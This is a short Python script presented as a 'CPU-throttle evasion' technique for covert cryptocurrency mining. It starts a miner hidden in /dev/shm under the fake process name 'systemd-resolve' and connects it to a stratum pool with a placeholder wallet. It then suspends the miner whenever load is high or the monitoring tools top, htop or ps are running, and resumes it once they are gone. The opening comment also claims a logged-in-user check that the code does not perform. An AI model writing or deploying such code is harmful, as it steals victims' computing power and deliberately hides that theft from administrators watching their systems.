# technique: CPU-throttle evasion: only mine when load is low and nobody is logged in, pausing the miner with SIGSTOP/SIGCONT
import os, signal, subprocess, time

cmd = ["/dev/shm/.m/systemd-resolve", "--url=stratum+tcp://pool.example.net:14444",
       "--user=4Bplaceholderwallet", "--threads=2", "--cpu-priority=0", "--no-color"]
p = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
paused = False
while p.poll() is None:
    load1 = os.getloadavg()[0]
    ncpu = os.cpu_count() or 1
    watchers = subprocess.run("ps -eo comm | grep -E '^(top|htop|ps)$'", shell=True, capture_output=True).stdout
    busy = load1 > ncpu * 0.8 or bool(watchers)
    if busy and not paused:
        os.kill(p.pid, signal.SIGSTOP); paused = True
    elif not busy and paused:
        os.kill(p.pid, signal.SIGCONT); paused = False
    time.sleep(10)
